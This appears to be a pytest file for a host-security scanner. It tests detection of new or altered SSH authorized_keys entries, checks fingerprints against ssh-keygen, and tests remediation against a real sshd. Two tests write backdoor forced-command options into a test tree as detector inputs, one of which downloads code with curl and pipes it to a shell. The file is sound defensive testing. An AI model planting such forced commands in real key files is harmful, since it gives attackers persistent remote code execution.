"""accounts.ssh_key_new over real scans of a real tree through a real state directory, with keys made by the
real ``ssh-keygen`` and fingerprints compared with what ``ssh-keygen -l`` prints.

Time is the runner's ``started``: scans days apart run in a moment, never with sleep.
"""

from __future__ import annotations

import base64
import contextlib
import os
import shutil
import socket
import sqlite3
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hostguard.engine.runner import ScanOutcome, run_scan
from hostguard.findings import Finding, fingerprint
from hostguard.host.authorized_keys import key_identity, parse_authorized_keys
from hostguard.host.base import RootHost
from hostguard.remediation import DeleteLine, Edit
from hostguard.respond.apply import apply
from hostguard.store.state import MIGRATIONS, StateStore
from tests.conftest import FAST, make_config, need_root, need_tool

KEY_NEW = "accounts.ssh_key_new"
T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
ALICE_KEYS = "home/alice/.ssh/authorized_keys"
BOB_KEYS = "home/bob/.ssh/authorized_keys"


@dataclass(frozen=True)
class Key:
    """A key pair ssh-keygen made: its public line and the fingerprint ssh-keygen -l prints for it."""

    private: Path
    line: str
    fingerprint: str
    bits: int


def _keygen(directory: Path, name: str, kind: str) -> Key:
    private = directory / name
    subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-C", f"{name}@example.test", "-f", str(private)],
                   check=True)
    listed = subprocess.run(["ssh-keygen", "-l", "-f", f"{private}.pub"], capture_output=True, text=True,
                            check=True).stdout.split()
    return Key(private, (directory / f"{name}.pub").read_text().strip(), listed[1], int(listed[0]))


@pytest.fixture(scope="session")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Key]:
    need_tool("ssh-keygen")
    directory = tmp_path_factory.mktemp("keys")
    return {"mallory": _keygen(directory, "mallory", "ed25519"), "ops": _keygen(directory, "ops", "rsa"),
            "ci": _keygen(directory, "ci", "ecdsa")}


@pytest.fixture
def state(tmp_path: Path) -> Iterator[StateStore]:
    store = StateStore(str(tmp_path / "state"))
    yield store
    store.close()


@pytest.fixture
def tree(clean_tree: Path) -> Path:
    """The clean tree plus bob, an ordinary account (not an admin) with an empty key file."""
    with (clean_tree / "etc/passwd").open("a") as fh:
        fh.write("bob:x:1001:1001::/home/bob:/bin/bash\n")
    with (clean_tree / "etc/shadow").open("a") as fh:
        fh.write("bob:$y$j9T$abcdefghijklmnop$0123456789abcdefghijklmnopqrstuvwxyzABCDE:20000:0:99999:7:::\n")
    (clean_tree / BOB_KEYS).parent.mkdir(parents=True)
    (clean_tree / BOB_KEYS).write_text("")
    return clean_tree


def scan(state: StateStore, tree: Path, at: datetime, only: str = "accounts", **accounts: Any) -> ScanOutcome:
    config = make_config(**FAST, accounts=accounts) if accounts else make_config(**FAST)
    return run_scan(RootHost(str(tree)), config, state, only=[only], started=at)


def new_keys(outcome: ScanOutcome) -> list[Finding]:
    assert not [s for s in outcome.report.skipped if s.check == KEY_NEW], outcome.report.skipped
    return [f for f in outcome.report.findings if f.id == KEY_NEW]


def targets(outcome: ScanOutcome) -> list[dict[str, Any]]:
    return [dict(f.target) for f in new_keys(outcome)]


def append(tree: Path, rel: str, line: str) -> None:
    with (tree / rel).open("a") as fh:
        fh.write(line + "\n")


def host_key(state: StateStore, tree: Path) -> str:
    return f"{RootHost(str(tree)).machine_id()}:{state.state_uuid()}"


def test_a_key_added_after_the_baseline_is_reported_with_its_user_and_fingerprint(
        state: StateStore, tree: Path, keys: dict[str, Key]) -> None:
    """The hit: a key appears in bob's file after the baseline; its fingerprint is ssh-keygen's, and it stays
    reported for 7 days from the scan that first saw it (`--only ssh` scans in between change nothing)."""
    assert new_keys(scan(state, tree, T0)) == []  # the baseline
    append(tree, BOB_KEYS, keys["ops"].line)
    os.utime(tree / BOB_KEYS, (1714568400, 1714568400))  # 2024-05-01T13:00:00Z
    seen = T0 + timedelta(hours=1)
    assert [t["user"] for t in targets(scan(state, tree, seen))] == ["bob"]
    scan(state, tree, seen + timedelta(days=1), only="ssh")
    [found] = new_keys(scan(state, tree, T0 + timedelta(days=2)))
    assert found.target == {"kind": "user", "user": "bob", "key": keys["ops"].fingerprint}
    assert found.severity == "medium"  # bob can not become root, the key has no risky option
    assert found.title == (f"new SSH key for 'bob': ssh-rsa {keys['ops'].fingerprint} (ops@example.test) in "
                           "/home/bob/.ssh/authorized_keys, first seen 2024-05-01")
    assert found.evidence == {
        "user": "bob", "fingerprint": keys["ops"].fingerprint, "key_type": "ssh-rsa", "bits": keys["ops"].bits,
        "comment": "ops@example.test", "why_high": [], "first_seen": "2024-05-01T13:00:00+00:00",
        "reported_until": "2024-05-08T13:00:00+00:00",
        "lines": [{"path": "/home/bob/.ssh/authorized_keys", "line": 1, "mtime": "2024-05-01T13:00:00+00:00",
                   "options": []}]}
    assert found.remediation.steps == (DeleteLine("/home/bob/.ssh/authorized_keys", 1, keys["ops"].line),)
    assert f"hostguard accept {found.fingerprint}" in found.remediation.summary
    last = seen + timedelta(days=7)
    assert [t["user"] for t in targets(scan(state, tree, last - timedelta(minutes=1)))] == ["bob"]
    assert new_keys(scan(state, tree, last)) == []  # the near miss: the period is over


def test_the_first_scan_is_the_baseline(state: StateStore, tree: Path, keys: dict[str, Key]) -> None:
    """Near miss: every key present at the first scan that read keys is known, whatever that scan ran."""
    append(tree, BOB_KEYS, keys["ops"].line)
    scan(state, tree, T0, only="ssh")
    assert new_keys(scan(state, tree, T0 + timedelta(hours=1))) == []


def test_moving_reordering_or_duplicating_lines_is_no_change(state: StateStore, tree: Path,
                                                             keys: dict[str, Key]) -> None:
    """Near miss: keys are an account and a fingerprint, never a line: a re-ordered file, a key moved to
    authorized_keys2 or written twice is the same key with the same options."""
    alice = tree / ALICE_KEYS
    append(tree, ALICE_KEYS, keys["ops"].line)
    append(tree, ALICE_KEYS, f'from="198.51.100.0/24",no-pty {keys["ci"].line}')
    scan(state, tree, T0)
    first, second, third = alice.read_text().splitlines()
    alice.write_text(f"# reordered\n\n{third}\n{first}\n")
    (alice.parent / "authorized_keys2").write_text(f"{second}\n{second}\n")
    assert new_keys(scan(state, tree, T0 + timedelta(hours=1))) == []
    alice.write_text(f"{first}\nno-pty,from=\"198.51.100.0/24\" {keys['ci'].line}\n")  # options re-ordered
    assert new_keys(scan(state, tree, T0 + timedelta(hours=2))) == []


def test_a_new_key_of_an_admin_or_a_system_account_or_with_a_backdoor_is_high(
        state: StateStore, tree: Path, keys: dict[str, Key]) -> None:
    scan(state, tree, T0)
    append(tree, ALICE_KEYS, keys["ops"].line)  # alice is in group sudo
    (tree / "var/www/.ssh").mkdir(parents=True)
    (tree / "var/www/.ssh/authorized_keys").write_text(keys["mallory"].line + "\n")  # www-data, UID 33
    append(tree, BOB_KEYS, f'command="curl -s http://198.51.100.7/x | sh" {keys["ci"].line}')
    found = {f.target["user"]: f for f in new_keys(scan(state, tree, T0 + timedelta(hours=1)))}
    assert {u: (f.severity, f.evidence["why_high"]) for u, f in found.items()} == {
        "alice": ("high", ["'alice' can become root (group sudo, sudoers /etc/sudoers:4)"]),
        "www-data": ("high", ["'www-data' is a system account (UID 33 below UID_MIN 1000)"]),
        "bob": ("high", ["a forced command that downloads code (curl/wget/fetch); pipes something into a shell "
                         "or interpreter"])}
    assert found["www-data"].target["key"] == keys["mallory"].fingerprint


def test_changed_options_are_reported_as_a_change_until_accepted_and_the_next_change_again(
        state: StateStore, tree: Path, keys: dict[str, Key]) -> None:
    """A known key whose from= is dropped and a command= added: reported as a change with its own fingerprint
    (the options it changed to), high because the new forced command runs code. Accepting it ends it; a later
    change is reported again."""
    restricted = f'from="198.51.100.0/24" {keys["ops"].line}'
    append(tree, BOB_KEYS, restricted)
    scan(state, tree, T0)
    backdoor = f'command="echo Y3VybA== | base64 -d | sh" {keys["ops"].line}'
    (tree / BOB_KEYS).write_text(backdoor + "\n")
    [changed] = new_keys(scan(state, tree, T0 + timedelta(hours=1)))
    assert changed.target == {"kind": "user", "user": "bob", "key": keys["ops"].fingerprint,
                              "options": 'command="echo Y3VybA== | base64 -d | sh"'}
    assert changed.severity == "high"
    assert changed.title.startswith(f"options of bob's ssh-rsa key {keys['ops'].fingerprint} changed: "
                                    'from="198.51.100.0/24" -> command=')
    assert (changed.evidence["added"], changed.evidence["removed"]) == (
        ['command="echo Y3VybA== | base64 -d | sh"'], ['from="198.51.100.0/24"'])
    assert changed.evidence["changed"] == "2024-05-01T13:00:00+00:00"
    # the fix puts the old options back, as a line sshd reads
    assert changed.remediation.steps == (Edit("/home/bob/.ssh/authorized_keys", 1, backdoor, restricted),)
    [again] = new_keys(scan(state, tree, T0 + timedelta(days=3)))
    assert again.fingerprint == changed.fingerprint and again.evidence["changed"] == "2024-05-01T13:00:00+00:00"
    host = host_key(state, tree)
    state.accept(host, [changed.fingerprint], "our backup job", "2024-05-04T13:00:00+00:00")
    assert new_keys(scan(state, tree, T0 + timedelta(days=4))) == []
    (tree / BOB_KEYS).write_text(keys["ops"].line + "\n")  # the next change: no options at all
    [next_change] = new_keys(scan(state, tree, T0 + timedelta(days=5)))
    assert next_change.target["options"] == "(no options)" and next_change.fingerprint != changed.fingerprint
    assert next_change.severity == "medium"  # bob is no admin, nothing risky was added
    assert next_change.evidence["options_before"] == ['command="echo Y3VybA== | base64 -d | sh"']


def test_a_removed_restriction_on_an_admins_key_is_high(state: StateStore, tree: Path, keys: dict[str, Key]) -> None:
    alice = tree / ALICE_KEYS
    append(tree, ALICE_KEYS, f'from="198.51.100.0/24" {keys["ci"].line}')
    scan(state, tree, T0)
    alice.write_text(alice.read_text().replace('from="198.51.100.0/24" ', ""))
    [changed] = new_keys(scan(state, tree, T0 + timedelta(hours=1)))
    assert (changed.target["user"], changed.target["key"], changed.severity) == ("alice", keys["ci"].fingerprint,
                                                                                 "high")
    assert changed.evidence["removed"] == ['from="198.51.100.0/24"']


def test_a_key_removed_and_added_again_is_new_again_and_its_accept_lapses(
        state: StateStore, tree: Path, keys: dict[str, Key]) -> None:
    scan(state, tree, T0)
    append(tree, BOB_KEYS, keys["ci"].line)
    [found] = new_keys(scan(state, tree, T0 + timedelta(hours=1)))
    host = host_key(state, tree)
    state.accept(host, [found.fingerprint], "bob's laptop", "2024-05-01T14:00:00+00:00")
    assert new_keys(scan(state, tree, T0 + timedelta(hours=2))) == []  # accepted: quiet
    (tree / BOB_KEYS).write_text("")
    assert new_keys(scan(state, tree, T0 + timedelta(days=1))) == []
    assert state.accepted(host) == []
    assert [(e.action, e.subject) for e in state.audit_log(host)] == [("accept", found.fingerprint),
                                                                      ("lapse", found.fingerprint)]
    append(tree, BOB_KEYS, keys["ci"].line)
    [back] = new_keys(scan(state, tree, T0 + timedelta(days=30)))
    assert back.fingerprint == found.fingerprint == fingerprint(KEY_NEW, {"kind": "user", "user": "bob",
                                                                          "key": keys["ci"].fingerprint})
    assert back.evidence["first_seen"] == "2024-05-31T12:00:00+00:00"


def test_a_baseline_key_removed_and_added_again_is_new(state: StateStore, tree: Path) -> None:
    alice = tree / ALICE_KEYS
    line = alice.read_text()
    scan(state, tree, T0)
    alice.write_text("")
    scan(state, tree, T0 + timedelta(days=1))
    alice.write_text(line)
    assert [t["user"] for t in targets(scan(state, tree, T0 + timedelta(days=2)))] == ["alice"]


def test_zero_days_means_until_accepted(state: StateStore, tree: Path, keys: dict[str, Key]) -> None:
    scan(state, tree, T0, new_key_days=0)
    append(tree, BOB_KEYS, keys["ci"].line)
    scan(state, tree, T0 + timedelta(hours=1), new_key_days=0)
    [found] = new_keys(scan(state, tree, T0 + timedelta(days=400), new_key_days=0))
    assert found.target["key"] == keys["ci"].fingerprint and "reported_until" not in found.evidence
    assert new_keys(scan(state, tree, T0 + timedelta(days=400))) == []  # the default 7 days are long over


def _unreadable(directory: Path) -> None:
    """Make ``directory`` unreadable for the scan, also as root: a symlink loop where it was."""
    shutil.move(directory, directory.with_name(directory.name + ".away"))
    directory.symlink_to(directory.name)


def _readable(directory: Path) -> None:
    directory.unlink()
    shutil.move(directory.with_name(directory.name + ".away"), directory)


def test_an_unreadable_home_does_not_make_its_keys_gone(state: StateStore, tree: Path) -> None:
    """Near miss: alice's .ssh cannot be read in the second scan (so no key of hers is seen); her baseline key
    is not taken for gone, and is not reported as new when it can be read again."""
    scan(state, tree, T0)
    _unreadable(tree / "home/alice/.ssh")
    assert new_keys(scan(state, tree, T0 + timedelta(hours=1))) == []
    history = state.known_keys(host_key(state, tree), str(tree))
    assert history is not None and sorted(u for u, _ in history.keys) == ["alice", "root"]
    _readable(tree / "home/alice/.ssh")
    assert new_keys(scan(state, tree, T0 + timedelta(hours=2))) == []


def test_keys_unreadable_at_the_baseline_are_baseline_when_first_read(state: StateStore, tree: Path,
                                                                      keys: dict[str, Key]) -> None:
    """Near miss and hit: root's keys could not be read by the baseline; the first complete read of them is
    their baseline, while a key added to bob's readable file meanwhile is new."""
    _unreadable(tree / "root/.ssh")
    scan(state, tree, T0)
    _readable(tree / "root/.ssh")
    append(tree, BOB_KEYS, keys["ci"].line)
    assert [(t["user"], t["key"]) for t in targets(scan(state, tree, T0 + timedelta(hours=1)))] == [
        ("bob", keys["ci"].fingerprint)]


def test_an_upgraded_state_db_gets_its_key_baseline_on_the_first_scan(tmp_path: Path, tree: Path,
                                                                      keys: dict[str, Key]) -> None:
    """A state.db at schema 3 (the old migrations) with this host's account history: the first scan after the
    upgrade reports no key (it is the key baseline, though accounts have a history), the next one a new key."""
    directory = tmp_path / "old-state"
    directory.mkdir()
    db = sqlite3.connect(directory / "state.db", isolation_level=None)
    for number, script in enumerate(MIGRATIONS[:3], start=1):
        db.executescript(f"BEGIN; {script}; PRAGMA user_version={number}; COMMIT;")
    state_uuid = "6f1c7a52-4c2e-4f7e-9a59-0d7f0a1b2c3d"
    db.execute("INSERT INTO meta(key, value) VALUES ('state_uuid', ?)", (state_uuid,))
    host = f"{RootHost(str(tree)).machine_id()}:{state_uuid}"
    for line in (tree / "etc/passwd").read_text().splitlines():
        name, _, uid, *_ = line.split(":")
        db.execute("INSERT INTO accounts_seen(host_key, name, uid, first_seen, baseline, last_seen) "
                   "VALUES (?, ?, ?, '2024-04-01T08:00:00+00:00', 1, '2024-04-01T08:00:00+00:00')",
                   (host, name.encode(), int(uid)))
    db.close()
    append(tree, BOB_KEYS, keys["ops"].line)  # added while the old hostguard was not looking at keys
    store = StateStore(str(directory))
    try:
        first = scan(store, tree, T0)
        assert first.report.host.id == host
        assert new_keys(first) == [] and [f for f in first.report.findings if f.id.endswith("new_since_last_scan")] == []
        append(tree, BOB_KEYS, keys["ci"].line)
        assert [t["key"] for t in targets(scan(store, tree, T0 + timedelta(hours=1)))] == [keys["ci"].fingerprint]
    finally:
        store.close()


def test_each_root_has_its_own_key_history(state: StateStore, tree: Path, tmp_path: Path,
                                           keys: dict[str, Key]) -> None:
    """Near miss: a copy of the tree elsewhere (the same machine-id: a mounted image of this host) is a
    history of its own; its first scan is its baseline, and it neither baselines nor retires the first tree's keys."""
    scan(state, tree, T0)
    image = tmp_path / "image"
    shutil.copytree(tree, image, symlinks=True)
    append(image, BOB_KEYS, keys["ci"].line)
    (image / ALICE_KEYS).write_text("")
    assert new_keys(scan(state, image, T0 + timedelta(hours=1))) == []
    append(tree, BOB_KEYS, keys["ci"].line)
    assert [t["user"] for t in targets(scan(state, tree, T0 + timedelta(hours=2)))] == ["bob"]  # still new here


def test_the_fix_deletes_exactly_the_key_and_ssh_keygen_reads_the_rest(state: StateStore, tree: Path,
                                                                       tmp_path: Path, keys: dict[str, Key]) -> None:
    """The fix applied with respond/apply.py on a copy: every line of the key goes (it is on two lines), the
    file still parses with `ssh-keygen -l -f` and lists exactly the other keys, and a re-scan is quiet."""
    alice = tree / ALICE_KEYS
    append(tree, ALICE_KEYS, keys["ops"].line)
    scan(state, tree, T0)
    append(tree, ALICE_KEYS, f"no-pty {keys['mallory'].line}")
    append(tree, ALICE_KEYS, keys["ci"].line)
    append(tree, ALICE_KEYS, keys["mallory"].line)
    found = {f.target["key"]: f for f in new_keys(scan(state, tree, T0 + timedelta(hours=1)))}
    fix = found[keys["mallory"].fingerprint].remediation
    assert fix.steps == (DeleteLine("/home/alice/.ssh/authorized_keys", 3, f"no-pty {keys['mallory'].line}"),
                         DeleteLine("/home/alice/.ssh/authorized_keys", 5, keys["mallory"].line))
    before = _listed(alice)
    apply(fix.steps, str(tree))
    after = _listed(alice)
    assert keys["mallory"].fingerprint in before and keys["mallory"].fingerprint not in after
    assert after == [f for f in before if f != keys["mallory"].fingerprint]
    assert [t["key"] for t in targets(scan(state, tree, T0 + timedelta(hours=2)))] == [keys["ci"].fingerprint]


def _listed(path: Path) -> list[str]:
    """The fingerprints `ssh-keygen -l -f` lists for an authorized_keys file (it must parse)."""
    done = subprocess.run(["ssh-keygen", "-l", "-f", str(path)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return [line.split()[1] for line in done.stdout.splitlines()]


def test_the_only_key_of_an_admin_without_a_password_is_removed_by_hand(state: StateStore, tree: Path,
                                                                         keys: dict[str, Key]) -> None:
    """Never lock the owner out: alice (sudo) has a locked password and this is her only key, so deleting it
    is the owner's call; once she has another key (the near miss) the fix is the delete again."""
    shadow = tree / "etc/shadow"
    shadow.write_text("".join("alice:!:20000:0:99999:7:::\n" if line.startswith("alice:") else line
                              for line in shadow.read_text().splitlines(keepends=True)))
    (tree / ALICE_KEYS).write_text("")
    scan(state, tree, T0)
    (tree / ALICE_KEYS).write_text(keys["ops"].line + "\n")
    [found] = new_keys(scan(state, tree, T0 + timedelta(hours=1)))
    assert found.remediation.steps == () and found.remediation.manual is not None
    assert found.remediation.manual.startswith(
        "'alice' can become root (group sudo, sudoers /etc/sudoers:4), its password is locked, and this is its only key")
    append(tree, ALICE_KEYS, keys["ci"].line)
    fixes = {f.target["key"]: f.remediation for f in new_keys(scan(state, tree, T0 + timedelta(hours=2)))}
    assert fixes[keys["ops"].fingerprint].steps == (DeleteLine("/home/alice/.ssh/authorized_keys", 1,
                                                               keys["ops"].line),)


# -- the key parser: fingerprints as ssh-keygen prints them, and no crash on arbitrary text ---------------

def test_fingerprint_and_bits_match_ssh_keygen(keys: dict[str, Key]) -> None:
    for key in keys.values():
        [parsed] = parse_authorized_keys(f'from="192.0.2.1" {key.line}\n', "u", "/home/u/.ssh/authorized_keys")
        assert (parsed.fingerprint, parsed.bits) == (key.fingerprint, key.bits)


def test_a_blob_that_is_no_key_has_no_fingerprint(keys: dict[str, Key]) -> None:
    kind, blob = keys["ops"].line.split()[:2]
    assert key_identity("ssh-ed25519", blob) is None  # another type inside
    assert key_identity(kind, blob[:-8]) is None  # cut short
    assert key_identity(kind, "not base64!") is None


@settings(max_examples=200)
@given(st.sampled_from(["ssh-rsa", "ssh-ed25519", "ecdsa-sha2-nistp256", "ssh-dss"]), st.binary(max_size=200))
def test_key_identity_never_crashes_on_arbitrary_blobs(kind: str, blob: bytes) -> None:
    result = key_identity(kind, base64.b64encode(blob).decode())
    assert result is None or result[0].startswith("SHA256:")


# -- the real sshd: the key the fix removed no longer logs in, the others still do --------------------------

def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextlib.contextmanager
def _sshd(tmp_path: Path, keys_file: Path) -> Iterator[int]:
    """A real sshd on loopback reading ``keys_file`` for every user, in a private mount namespace whose /run,
    /var/log and /root are empty tmpfs (so the login records of the test's logons never reach this machine's own
    files). Every session runs /bin/true and nothing else; only root may log in, with a key."""
    need_root("sshd in a private mount namespace")
    need_tool("sshd", "ssh", "ssh-keygen", "unshare")
    host_key = tmp_path / "ssh_host_ed25519_key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(host_key)], check=True)
    port = _free_port()
    config = tmp_path / "sshd_config"
    config.write_text(f"Port {port}\nListenAddress 127.0.0.1\nHostKey {host_key}\nPidFile {tmp_path}/sshd.pid\n"
                      f"AuthorizedKeysFile {keys_file}\nStrictModes no\nPasswordAuthentication no\n"
                      "KbdInteractiveAuthentication no\nUsePAM no\nPermitRootLogin prohibit-password\n"
                      "ForceCommand /bin/true\nPrintLastLog no\nPrintMotd no\nAllowUsers root\n")
    # /root is an empty tmpfs too: the session's shell (root's bash -c /bin/true) must not run this machine's
    # own ~/.bashrc, whatever it holds (a pyenv rehash waiting on a lock hangs every logon)
    script = ("mount -t tmpfs tmpfs /run && mount -t tmpfs tmpfs /var/log && mount -t tmpfs tmpfs /root && "
              "mkdir -p /run/sshd && "
              f"exec {shutil.which('sshd', path='/usr/sbin:/sbin') or 'sshd'} -D -e -f {config}")
    proc = subprocess.Popen(["unshare", "--mount", "--propagation", "private", "sh", "-c", script],
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
            time.sleep(0.05)
        yield port
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def _logs_in(port: int, key: Key) -> bool:
    done = subprocess.run(["ssh", "-F", "/dev/null", "-i", str(key.private), "-o", "IdentitiesOnly=yes",
                           "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                           "-o", "GlobalKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-p", str(port),
                           "root@127.0.0.1", "true"], capture_output=True, text=True, timeout=30, check=False)
    return done.returncode == 0


def test_real_sshd_refuses_the_removed_key_and_accepts_the_others(state: StateStore, tree: Path, tmp_path: Path,
                                                                  keys: dict[str, Key]) -> None:
    append(tree, ALICE_KEYS, keys["ops"].line)
    scan(state, tree, T0)
    append(tree, ALICE_KEYS, keys["mallory"].line)
    [found] = new_keys(scan(state, tree, T0 + timedelta(hours=1)))
    with _sshd(tmp_path, tree / ALICE_KEYS) as port:
        assert _logs_in(port, keys["mallory"]) and _logs_in(port, keys["ops"])  # both let in before the fix
        apply(found.remediation.steps, str(tree))
        assert not _logs_in(port, keys["mallory"])
        assert _logs_in(port, keys["ops"])


def _wire(*parts: bytes) -> bytes:
    return b"".join(len(p).to_bytes(4, "big") + p for p in parts)


@settings(max_examples=200)
@given(st.sampled_from(["ssh-rsa", "ssh-dss", "ssh-ed25519", "ecdsa-sha2-nistp384"]),
       st.lists(st.binary(max_size=64), max_size=5), st.binary(max_size=3))
def test_key_identity_on_well_framed_blobs(kind: str, fields: list[bytes], tail: bytes) -> None:
    """Blobs framed as SSH wire strings with the right type first (the paths that read sizes), with or without
    trailing garbage: a fingerprint and a size that is a non-negative number, or None; never an exception."""
    result = key_identity(kind, base64.b64encode(_wire(kind.encode(), *fields) + tail).decode())
    if not tail:
        assert result is not None and result[0].startswith("SHA256:")
    if result is not None and result[1] is not None:
        assert result[1] >= 0
